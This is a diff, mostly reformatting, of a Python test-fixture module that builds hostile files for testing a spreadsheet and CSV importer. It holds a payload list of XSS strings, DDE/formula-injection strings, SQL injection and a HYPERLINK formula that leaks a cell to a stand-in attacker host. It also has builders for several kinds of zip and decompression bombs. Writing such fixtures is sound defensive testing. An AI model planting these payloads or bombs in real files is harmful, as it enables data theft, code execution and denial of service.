@@ -1,40 +1,73 @@
 """Hostile and odd district files, built by the tests: sparse sheets, zip bombs of several shapes, huge
 lines, payload strings, formulas and external links. Each builder takes its size as a parameter so a
 test (or a hypothesis strategy) can choose it."""
+
 from __future__ import annotations
 
 import io
 import zipfile
 from pathlib import Path
 
-VOLUNTEER_HEADER = ["活动日期", "区县", "组织单位", "志愿服务队", "活动类型", "参与志愿者（人）", "服务时长（小时）", "服务地点"]
+VOLUNTEER_HEADER = [
+    "活动日期",
+    "区县",
+    "组织单位",
+    "志愿服务队",
+    "活动类型",
+    "参与志愿者（人）",
+    "服务时长（小时）",
+    "服务地点",
+]
 HOTLINE_HEADER = ["工单编号", "受理时间", "区县", "街道", "诉求类别", "首次答复时间", "办结时间", "满意度"]
 PAYLOADS = [
-    "<img src=x onerror=alert(1)>", "<script>alert('x')</script>", "\"><svg onload=alert(1)>",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&B5,\"点击\")", "+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3", "&lt;b&gt;", "javascript:alert(1)", "' OR '1'='1", "\u202egnp.exe", "a\x00b",
+    "<img src=x onerror=alert(1)>",
+    "<script>alert('x')</script>",
+    '"><svg onload=alert(1)>',
+    '=HYPERLINK("http://evil.example/?leak="&B5,"点击")',
+    "+cmd|'/c calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "&lt;b&gt;",
+    "javascript:alert(1)",
+    "' OR '1'='1",
+    "\u202egnp.exe",
+    "a\x00b",
 ]
 NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
-_CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
-                  'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
-                  'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
-                  '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
-                  'sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
-                  'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>{extra}</Types>')
-_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
-         'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-         'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
-_WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?><workbook ' + NS + ' xmlns:r="http://schemas.openxmlformats.org/'
-             'officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
-             '{extra}</workbook>')
-_WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
-                  'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
-                  'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>{extra}'
-                  '</Relationships>')
+_CONTENT_TYPES = (
+    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
+    '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
+    'sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
+    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>{extra}</Types>'
+)
+_RELS = (
+    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
+)
+_WORKBOOK = (
+    '<?xml version="1.0" encoding="UTF-8"?><workbook ' + NS + ' xmlns:r="http://schemas.openxmlformats.org/'
+    'officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
+    "{extra}</workbook>"
+)
+_WORKBOOK_RELS = (
+    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+    'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+    'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>{extra}'
+    "</Relationships>"
+)
 
 
-def xlsx_from_sheet_xml(path: Path, sheet_xml, extra_members: dict[str, bytes] | None = None,
-                        workbook_extra: str = "", rels_extra: str = "", types_extra: str = "") -> Path:
+def xlsx_from_sheet_xml(
+    path: Path,
+    sheet_xml,
+    extra_members: dict[str, bytes] | None = None,
+    workbook_extra: str = "",
+    rels_extra: str = "",
+    types_extra: str = "",
+) -> Path:
     """A minimal xlsx whose one worksheet is ``sheet_xml`` (bytes, or an iterable of byte chunks written
     as a stream, so a bomb never exists in memory whole)."""
     path.parent.mkdir(parents=True, exist_ok=True)
@@ -66,8 +99,10 @@ def sparse_xlsx(path: Path, far_ref: str) -> Path:
 
     header = "".join(inline(f"{column_letter(i)}1", h) for i, h in enumerate(VOLUNTEER_HEADER))
     row = int("".join(ch for ch in far_ref if ch.isdigit()))
-    xml = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData><row r="1">{header}</row>'
-           f'<row r="{row}"><c r="{far_ref}"><v>1</v></c></row></sheetData></worksheet>')
+    xml = (
+        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData><row r="1">{header}</row>'
+        f'<row r="{row}"><c r="{far_ref}"><v>1</v></c></row></sheetData></worksheet>'
+    )
     return xlsx_from_sheet_xml(path, xml.encode())
 
 
@@ -82,13 +117,16 @@ def row_bomb_xlsx(path: Path, unpacked_bytes: int, with_refs: bool = False) -> P
         block_rows = 20_000
         while written < unpacked_bytes:
             if with_refs:
-                block = "".join(f'<row r="{r + i}"><c r="A{r + i}"><v>1</v></c></row>' for i in range(block_rows)).encode()
+                block = "".join(
+                    f'<row r="{r + i}"><c r="A{r + i}"><v>1</v></c></row>' for i in range(block_rows)
+                ).encode()
             else:
                 block = b"<row><c><v>1</v></c></row>" * block_rows
             r += block_rows
             written += len(block)
             yield block
         yield b"</sheetData></worksheet>"
+
     return xlsx_from_sheet_xml(path, chunks())
 
 
@@ -96,9 +134,14 @@ def shared_strings_bomb_xlsx(path: Path, unpacked_bytes: int) -> Path:
     """A tiny sheet whose sharedStrings.xml unpacks to ``unpacked_bytes``."""
     sheet = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
     path.parent.mkdir(parents=True, exist_ok=True)
-    xlsx_from_sheet_xml(path, sheet.encode(), rels_extra=(
-        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        'sharedStrings" Target="sharedStrings.xml"/>'))
+    xlsx_from_sheet_xml(
+        path,
+        sheet.encode(),
+        rels_extra=(
+            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            'sharedStrings" Target="sharedStrings.xml"/>'
+        ),
+    )
     with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
         with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
             member.write(f'<?xml version="1.0" encoding="UTF-8"?><sst {NS} count="1" uniqueCount="1"><si><t>'.encode())
@@ -112,19 +155,23 @@ def shared_strings_bomb_xlsx(path: Path, unpacked_bytes: int) -> Path:
 def lying_sizes_xlsx(path: Path, unpacked_bytes: int) -> Path:
     """A row bomb of ``unpacked_bytes`` whose local and central headers claim the sheet is 1,000 bytes."""
     body = b"<row><c><v>1</v></c></row>" * (unpacked_bytes // 26)
-    xml = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>'.encode() + body + b"</sheetData></worksheet>"
+    xml = (
+        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>'.encode()
+        + body
+        + b"</sheetData></worksheet>"
+    )
     xlsx_from_sheet_xml(path, xml)
     data = bytearray(path.read_bytes())
     name = b"xl/worksheets/sheet1.xml"
     at = data.find(b"PK\x01\x02")
     while at != -1:
-        if data[at + 46:at + 46 + len(name)] == name:
-            data[at + 24:at + 28] = (1000).to_bytes(4, "little")  # central directory: uncompressed size
+        if data[at + 46 : at + 46 + len(name)] == name:
+            data[at + 24 : at + 28] = (1000).to_bytes(4, "little")  # central directory: uncompressed size
         at = data.find(b"PK\x01\x02", at + 4)
     at = data.find(b"PK\x03\x04")
     while at != -1:
-        if data[at + 30:at + 30 + len(name)] == name:
-            data[at + 22:at + 26] = (1000).to_bytes(4, "little")  # local header
+        if data[at + 30 : at + 30 + len(name)] == name:
+            data[at + 22 : at + 26] = (1000).to_bytes(4, "little")  # local header
         at = data.find(b"PK\x03\x04", at + 4)
     path.write_bytes(bytes(data))
     return path
@@ -150,8 +197,12 @@ def ods_repeat_bomb(path: Path, rows: int = 1_048_576, columns: int = 16_384) ->
         for info in source.infolist():
             data = source.read(info.filename)
             if info.filename == "content.xml":
-                data = data.replace(b"<table:table-row>", f'<table:table-row table:number-rows-repeated="{rows}">'.encode())
-                data = data.replace(b"<table:table-cell ", f'<table:table-cell table:number-columns-repeated="{columns}" '.encode())
+                data = data.replace(
+                    b"<table:table-row>", f'<table:table-row table:number-rows-repeated="{rows}">'.encode()
+                )
+                data = data.replace(
+                    b"<table:table-cell ", f'<table:table-cell table:number-columns-repeated="{columns}" '.encode()
+                )
             target.writestr(info, data)
     return path
 
@@ -159,8 +210,11 @@ def ods_repeat_bomb(path: Path, rows: int = 1_048_576, columns: int = 16_384) ->
 def html_span_bomb(path: Path, colspan: int, rowspan: int) -> Path:
     path.parent.mkdir(parents=True, exist_ok=True)
     cells = "".join(f"<th>{h}</th>" for h in VOLUNTEER_HEADER)
-    path.write_text(f"<html><body><table><tr>{cells}</tr><tr><td colspan='{colspan}' rowspan='{rowspan}'>x</td>"
-                    "</tr></table></body></html>", encoding="utf-8")
+    path.write_text(
+        f"<html><body><table><tr>{cells}</tr><tr><td colspan='{colspan}' rowspan='{rowspan}'>x</td>"
+        "</tr></table></body></html>",
+        encoding="utf-8",
+    )
     return path
 
 
@@ -181,8 +235,10 @@ def volunteer_csv(path: Path, rows: int = 3, district: str = "南芬区", extra:
     """A small valid 志愿服务 CSV (UTF-8) for ``district``."""
     path.parent.mkdir(parents=True, exist_ok=True)
     lines = [f"{district}志愿服务活动统计表（2022年3月）", ",".join(VOLUNTEER_HEADER)]
-    lines += [f"2022-03-04,{district},{district}文明办,{district}志愿{i}队,创城,{30 + i},10,{district}"
-              for i in range(1, rows + 1)]
+    lines += [
+        f"2022-03-04,{district},{district}文明办,{district}志愿{i}队,创城,{30 + i},10,{district}"
+        for i in range(1, rows + 1)
+    ]
     lines += [",".join(r) for r in (extra or [])]
     path.write_text("\n".join(lines) + "\n", encoding="utf-8")
     return path
@@ -201,5 +257,13 @@ def hotline_csv(path: Path, tickets: list[list[str]], district: str = "明山区
 
 
 def hotline_ticket(i: int, district: str = "明山区", street: str = "北地街道") -> list[str]:
-    return [f"MS2021090{i:05d}", "2021-09-06 09:00:00", district, street, "城市管理", "2021-09-06 10:00:00",
-            "2021-09-07 10:00:00", "满意"]
+    return [
+        f"MS2021090{i:05d}",
+        "2021-09-06 09:00:00",
+        district,
+        street,
+        "城市管理",
+        "2021-09-06 10:00:00",
+        "2021-09-07 10:00:00",
+        "满意",
+    ]
